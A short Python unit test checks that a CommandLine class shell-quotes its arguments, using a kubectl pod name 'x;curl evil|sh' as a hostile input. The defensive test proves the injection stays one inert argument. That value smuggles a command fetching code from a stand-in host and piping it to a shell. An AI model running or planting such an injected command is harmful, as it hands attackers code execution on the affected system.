"""A document carries commands as arguments, and quotes them only when they are printed."""

import shlex

from bot.facts.document import CommandLine


def test_command_line_is_quoted_for_a_shell() -> None:
    """A hostile name stays one argument."""
    command = CommandLine("why", ("kubectl", "get", "pod", "x;curl evil|sh"))
    assert command.line == "kubectl get pod 'x;curl evil|sh'"
    assert tuple(shlex.split(command.line)) == command.argv
